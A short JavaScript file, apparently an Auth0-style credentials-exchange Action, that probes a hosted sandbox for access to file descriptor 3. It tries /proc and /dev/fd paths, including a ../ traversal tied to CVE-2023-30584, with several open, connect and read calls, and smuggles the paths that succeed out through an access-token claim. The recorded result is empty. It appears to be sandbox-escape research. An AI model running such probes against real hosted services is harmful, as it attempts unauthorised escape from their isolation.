// outcome: completed; claim open=[]; beside served
// The socket by the names the system gives it (CVE-2023-30584: path traversal, in the spelling of /proc).
const fs = require('node:fs')
const folders = [
  '/proc/self/fd',
  '/dev/fd',
  `/proc/${process.pid}/fd`,
  '/proc/thread-self/fd',
  `${__dirname}/../../../../proc/self/fd`,
]
const ways = {
  'openSync to write': (path) => fs.openSync(path, 'w'),
  'openSync for both': (path) => fs.openSync(path, 'r+'),
  'openSync to read': (path) => fs.openSync(path, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK),
  'promises.open': (path) => fs.promises.open(path),
  createWriteStream: (path) =>
    new Promise((resolve) =>
      fs
        .createWriteStream(path)
        .on('open', resolve)
        .on('error', () => resolve(undefined)),
    ),
  'net.connect': (path) =>
    new Promise((resolve) =>
      require('node:net')
        .connect({ path })
        .on('connect', () => resolve(true))
        .on('error', () => resolve(undefined)),
    ),
  readlinkSync: (path) => fs.readlinkSync(path),
  readdirSync: (path) => fs.readdirSync(`${path}/..`),
}
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const open = []
  for (const folder of folders) {
    for (const [name, way] of Object.entries(ways)) {
      try {
        if ((await way(`${folder}/3`)) !== undefined) open.push(`${name} ${folder}`)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('open', open)
}
